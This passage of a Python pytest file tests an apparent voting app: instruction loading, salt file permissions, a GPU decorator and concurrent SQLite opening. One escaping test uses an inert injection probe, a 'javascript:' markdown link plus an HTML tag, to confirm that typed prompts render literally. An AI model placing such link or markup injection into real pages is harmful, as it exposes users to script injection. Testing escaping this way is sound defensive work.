    assert load_instructions(None) == DEFAULT_INSTRUCTIONS and load_instructions("  ") == DEFAULT_INSTRUCTIONS
    assert load_instructions("## Our study\nPick one.") == "## Our study\nPick one."
    f = tmp_path / "intro.md"
    f.write_text("# Lab survey\n\nThank you.", encoding="utf-8")
    assert load_instructions(str(f)) == "# Lab survey\n\nThank you."
    with pytest.raises(ValueError, match="names the file .*missing.md.*cannot be read"):
        load_instructions(str(tmp_path / "missing.md"))
    assert load_instructions("x" * 2000) == "x" * 2000  # a long single line is text, not a path


def test_salt_is_created_once_and_private(tmp_path):
    cfg = AppConfig(preset="tiny", data_dir=tmp_path / "d")
    s1 = cfg.salt()
    assert len(s1) == 64 and cfg.salt() == s1
    assert (tmp_path / "d" / "salt").stat().st_mode & 0o077 == 0


def test_gpu_decorator_is_a_no_op_without_the_spaces_package():
    from surlib.studio.settings import gpu_decorator

    try:
        import spaces

        if callable(getattr(spaces, "GPU", None)):
            pytest.skip("the ZeroGPU `spaces` package is installed here")
    except ImportError:
        pass

    def f(x):
        return x + 1

    assert gpu_decorator(30)(f) is f  # without the ZeroGPU package the decorator is a no-op


def test_typed_prompts_are_shown_literally():
    md = Studio.battle_markdown({"prompt": "two *red* cats [x](javascript:y) <b>", "category": None})
    assert "\\*red\\*" in md and "\\[x\\]" in md and "\\<b\\>" in md
    assert md_escape("a_b|c#d`e~") == "a\\_b\\|c\\#d\\`e\\~"


def test_stores_opened_at_once_on_a_new_file_all_open(tmp_path):
    """The WAL switch answers "database is locked" at once (no busy wait) when another
    connection is creating the file; an app restarting next to a live one must not crash."""
    failures = []
    for r in range(60):
        path, barrier = tmp_path / f"v{r}.sqlite", threading.Barrier(6)

        def open_store():
            barrier.wait()
            try:
                VoteStore(path, checkpoint_every_s=None).close()
            except Exception as e:  # noqa: BLE001 - any failure counts
                failures.append(repr(e))

        threads = [threading.Thread(target=open_store) for _ in range(6)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    assert failures == []
